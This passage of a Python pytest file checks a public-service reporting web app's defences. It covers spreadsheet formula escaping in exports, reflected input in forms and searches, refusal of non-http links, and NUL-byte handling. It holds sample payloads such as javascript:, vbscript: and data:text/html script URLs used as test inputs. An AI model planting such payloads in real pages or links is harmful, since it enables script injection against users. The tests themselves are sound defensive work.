        assert rows[code]["info_url"] == world.payloads[f"zqui{n:02d}"]

    # formula-like names: the CSV and XLSX cells start with a quote, the JSON keeps the name as it is
    formulas = {clean_text(p) for m, p in world.payloads.items()
                if m.startswith("zqan") and clean_text(p).startswith(FORMULA_PREFIXES)}
    assert len(formulas) >= 4
    agencies_csv = csv_rows(expect(anonymous.get(f"/open-data/{YEAR}/agencies.csv"), 200, "agencies.csv").data)
    names = {row[1] for row in agencies_csv[1:]}
    assert {"'" + name for name in formulas} <= names and not formulas & names
    assert spreadsheet_problems("agencies.csv", agencies_csv) == []
    agencies_xlsx = xlsx_rows(expect(anonymous.get(f"/open-data/{YEAR}/agencies.xlsx"), 200, "agencies.xlsx").data)
    assert {"'" + name for name in formulas} <= {row[1] for row in agencies_xlsx}
    assert spreadsheet_problems("agencies.xlsx", agencies_xlsx) == []
    agencies_json = json.loads(anonymous.get(f"/open-data/{YEAR}/agencies.json").data)
    assert formulas <= {row["name"] for row in agencies_json["rows"]}
    report = expect(world.clients["auditor"].get(f"/review/report?period={YEAR}&format=xlsx"), 200, "report").data
    report_rows = xlsx_rows(report)
    assert spreadsheet_problems("DIC report", report_rows) == []
    assert {"'" + name for name in formulas} <= {cell for row in report_rows for cell in row}


@pytest.fixture
def people(app, make_user) -> dict:
    """Test clients: anonymous, and signed in as an administrator and as an auditor."""
    return {"anonymous": signed_in(app, None), **{role: signed_in(app, make_user(role).email)
                                                  for role in ("admin", "auditor")}}


def test_refused_values_are_echoed_as_text(people):
    """Values a form refuses come back in the form, beside the message, as text."""
    admin = people["admin"]
    codes = marked(ATTACKS, "rf")
    check = PageCheck(dict(codes))
    for marker, payload in codes:
        response = admin.post("/admin/agencies/new", data={
            "code": payload, "name": payload, "tier": payload, "kind": payload, "parent_code": payload})
        expect(response, 422, f"agency code {payload!r}")
        check.html(f"agency code {marker}", "admin.agency_new", response)
        response = admin.post("/admin/targets/new", data={
            "code": payload, "title_vi": payload, "title_en": payload, "citation": payload, "scope": payload,
            "formula": "agency_flag_share", "flags": "has_lan", "unit": "percent", "comparator": ">=",
            "threshold": "1", "deadline": "2015"})
        expect(response, 422, f"target code and scope {payload!r}")
        check.html(f"target {marker}", "admin.target_new", response)
        response = admin.post("/admin/users/new", data={
            "email": payload, "role": "focal", "agency_code": payload, "password": PASSWORD, "confirm": PASSWORD})
        expect(response, 422, f"e-mail {payload!r}")
        check.html(f"user {marker}", "admin.user_new", response)
    assert check.problems == [], "\n".join(check.problems[:40])
    assert {m for m, _ in codes} <= set(check.seen)


def test_searches_and_sign_in_echo_the_query_as_text(app, people):
    queries = marked(ATTACKS, "sq")
    check = PageCheck(dict(queries))
    reflecting = (
        ("anonymous", "catalogue.services", "/services", ("q", "sector", "agency", "level", "period", "after")),
        ("anonymous", "catalogue.agencies", "/agencies", ("q", "kind", "tier", "after")),
        ("anonymous", "public.index", "/", ("period",)),
        ("admin", "admin.agencies", "/admin/agencies", ("q", "tier", "kind", "active")),
        ("admin", "admin.services", "/admin/services", ("q", "agency", "sector", "active")),
        ("admin", "admin.users", "/admin/users", ("q", "role", "active")),
        ("auditor", "review.audit_log", "/review/audit", ("agency", "user", "action", "date_from", "date_to")),
    )
    for n, (marker, query) in enumerate(queries):
        for viewer, endpoint, path, parameters in reflecting:
            url = f"{path}?{urlencode({name: query for name in parameters})}"
            response = people[viewer].get(url)
            assert response.status_code < 500, url
            check.html(f"{viewer} GET {url}", endpoint, response)
        # a failed sign-in shows the typed address again (each from its own address: no throttling)
        response = app.test_client().post("/login", data={"email": query, "password": "wrong password"},
                                                 environ_base={"REMOTE_ADDR": f"198.51.100.{n + 1}"})
        check.html(f"sign in as {marker}", "auth.login", expect(response, 200, f"sign in as {query!r}"))
    assert check.problems == [], "\n".join(check.problems[:40])
    for marker, _ in queries:
        assert {"catalogue.services", "catalogue.agencies", "admin.agencies", "admin.users",
                "review.audit_log", "auth.login"} <= check.seen.get(marker, set()), marker
    # the failed sign-ins are in the audit log, as text
    audit = PageCheck(check.payloads)
    audit.html("audit log", "review.audit_log", people["auditor"].get("/review/audit?action=login.failed"))
    assert audit.problems == [] and len(audit.seen) >= 20


# --- evidence links: only http(s) is stored, and anything else already stored stays inert ------

@pytest.fixture
def evidence(app, make, runner):
    agency = make.agency(code="so-tp", name="Sở Tư pháp")
    service = make.service(agency, code="1.001", name="Cấp Phiếu lý lịch tư pháp")
    make.period(YEAR)
    focal = make.user("focal", agency, email="focal@so-tp.example")
    token = runner.invoke(args=["token", "create", focal.email]).output.strip()
    client = app.test_client()
    client.post("/login", data={"email": focal.email, "password": PASSWORD})
    return {"agency": agency, "service": service, "client": client, "token": {"Authorization": f"Bearer {token}"}}


def stored_links(db) -> set[str]:
    db.rollback()
    links = set()
    for model in (ServiceStatus, VerifiedServiceStatus):
        for row in db.exec(select(model)):
            links |= {row.info_url, row.form_url, row.submission_url} - {None}
    return links


@pytest.mark.parametrize("marker,link", marked(BAD_URL_ATTACKS, "bu"))
def test_every_door_refuses_a_link_that_is_not_http(evidence, db, runner, tmp_path, marker, link):
    client = evidence["client"]
    form = {"version": "0", "action": "save", "service": "1.001", "svc-1.001-level": "3",
            "svc-1.001-info_url": link, "svc-1.001-form_url": "https://dvc.example/form",
            "svc-1.001-submission_url": link, "svc-1.001-note": ""}
    response = client.post(f"/workspace/so-tp/{YEAR}", data=form)
    assert response.status_code == 422
    check = PageCheck({marker: link})
    check.html("workspace form", "workspace.save_entries", response)
    assert check.problems == []
    page = response.get_data(as_text=True)
    assert 'id="f-1-001-info_url-error"' in page and 'id="f-1-001-submission_url-error"' in page

    response = client.put(f"/api/v1/agencies/so-tp/submissions/{YEAR}", headers=evidence["token"], json={
        "version": 0, "services": [{"code": "1.001", "level": 1, "info_url": link}]})
    assert response.status_code == 422
    assert "1.001.info_url" in response.get_json()["error"]["fields"]

    levels = tmp_path / "levels.csv"
    with levels.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["service_code", "period", "level", "info_url", "form_url", "submission_url"],
                                   ["1.001", str(YEAR), "1", link, "", ""]])
    result = runner.invoke(args=["import", "levels", str(levels)])
    assert result.exit_code != 0 and "info_url" in result.output

    assert stored_links(db) == set()
    assert db.exec(select(Submission)).first() is None


DANGEROUS_STORED = ("javascript:alert('zqds00')", " JavaScript:alert('zqds01')",
                    "data:text/html,<script>alert('zqds02')</script>", "vbscript:msgbox('zqds03')")


# (endpoint, url, whether the page shows the stored address as text).
STORED_LINK_PAGES = (
    ("workspace.entries", f"/workspace/so-tp/{YEAR}", True),
    ("review.submission", f"/review/so-tp/{YEAR}", True),
    ("catalogue.agency", f"/agencies/so-tp?period={YEAR}", False),  # the public sees web addresses only
    ("catalogue.services", f"/services?period={YEAR}", False),
)


@pytest.mark.parametrize("endpoint,url,shown", STORED_LINK_PAGES)
def test_a_dangerous_link_already_in_the_database_is_not_a_link(app, evidence, db, make, make_user, endpoint, url,
                                                                 shown):
    """Data that bypassed the parsers (an old import, a manual fix) must still not become a link."""
    submission = make.submission(evidence["agency"], YEAR, "draft", report={}, services={evidence["service"].id: {
        "level": 3, "info_url": DANGEROUS_STORED[0], "form_url": DANGEROUS_STORED[1],
        "submission_url": DANGEROUS_STORED[2], "note": DANGEROUS_STORED[3]}})
    workflow.force_state(db, submission, TEST_ACTOR, "verified")
    db.commit()
    auditor = make_user("auditor", email="auditor@dic.example")
    client = app.test_client()
    client.post("/login", data={"email": auditor.email, "password": PASSWORD})
    check = PageCheck({f"zqds{n:02d}": link for n, link in enumerate(DANGEROUS_STORED)})
    check.html(url, endpoint, expect(client.get(url), 200, url))
    assert check.problems == [], "\n".join(check.problems)
    assert (set(check.seen) == {"zqds00", "zqds01", "zqds02", "zqds03"}) is shown


# --- a NUL byte: refused or dropped, never a server error ------------------------------------

NUL = NUL_ATTACK.replace("{m}", "zqnu00")


@pytest.fixture
def reviewing(app, make):
    """A submitted report (so-tp) and a verified one (so-yt), with a focal point and an auditor."""
    versions = {}
    for code, state in (("so-tp", "submitted"), ("so-yt", "verified")):
        agency = make.agency(code=code)
        service = make.service(agency, code=f"{code}.1")
        versions[code] = str(make.submission(agency, YEAR, state, levels={service.id: 1}).version)
    focal = make.user("focal", agency, email="focal@so-yt.example")
    auditor = make.user("auditor", email="auditor@dic.example")
    return {"focal": signed_in(app, focal.email), "auditor": signed_in(app, auditor.email),
            "anonymous": signed_in(app, None), "versions": versions}


NUL_DOORS = (
    pytest.param("focal", "post", "/account/tokens", {"data": {"name": NUL}}, id="token name"),
    pytest.param("anonymous", "post", "/login", {"data": {"email": NUL, "password": "wrong password"}}, id="sign-in e-mail"),
    pytest.param("auditor", "post", f"/review/so-tp/{YEAR}/return", {"data": {"version": "so-tp", "comment": NUL}}, id="return comment"),
    pytest.param("auditor", "post", f"/review/so-tp/{YEAR}/verify", {"data": {"version": "so-tp", "comment": NUL, "confirm": "yes"}}, id="verify comment"),
    pytest.param("auditor", "post", f"/review/so-yt/{YEAR}/reopen", {"data": {"version": "so-yt", "reason": NUL}}, id="reopen reason"),
    pytest.param("auditor", "post", f"/api/v1/agencies/so-tp/submissions/{YEAR}/return",
                 {"json": {"comment": NUL}}, id="API return comment"),
    pytest.param("auditor", "post", f"/api/v1/agencies/so-yt/submissions/{YEAR}/reopen",
                 {"json": {"reason": NUL}}, id="API reopen reason"),
    pytest.param("auditor", "get", "/review/audit", {"query_string": {"agency": NUL, "user": NUL}}, id="audit log filters"),
    pytest.param("auditor", "get", f"/review/so%00tp/{YEAR}", {}, id="review page code"),
    pytest.param("focal", "get", f"/workspace/so%00yt/{YEAR}", {}, id="workspace page code"),
    pytest.param("anonymous", "get", "/targets/services%00level1_pct", {},
                 id="target page code"),
    pytest.param("anonymous", "get", "/api/v1/agencies/so%00tp", {}, id="API agency code"),
    pytest.param("anonymous", "get", "/agencies/so%00tp", {}, id="agency page code"),
    pytest.param("anonymous", "get", "/services", {"query_string": {"q": NUL, "sector": NUL}}, id="catalogue search"),
    pytest.param("auditor", "get", "/admin/agencies", {"query_string": {"q": NUL}}, id="admin search"),
    pytest.param("focal", "put", f"/api/v1/agencies/so-yt/submissions/{YEAR}",
                 {"json": {"version": "so-yt", "services": [{"code": "so-yt.1", "note": NUL}]}}, id="API note"),
)


@pytest.mark.parametrize("viewer,method,url,request_args", NUL_DOORS)
def test_a_nul_byte_is_never_a_server_error(reviewing, viewer, method, url, request_args):
    """(A "version" names the agency whose current version the request carries.)"""
    for body in (request_args.get("data"), request_args.get("json")):
        if body and "version" in body:
            body["version"] = reviewing["versions"][body["version"]]
    response = getattr(reviewing[viewer], method)(url, **request_args)
    assert response.status_code < 500
    assert response.status_code != 409, "the request carried a stale version: it tested nothing"
    # refused at the door, with the reason, before anything is read or written
    assert response.status_code == 422 and "NUL" in response.get_data(as_text=True)
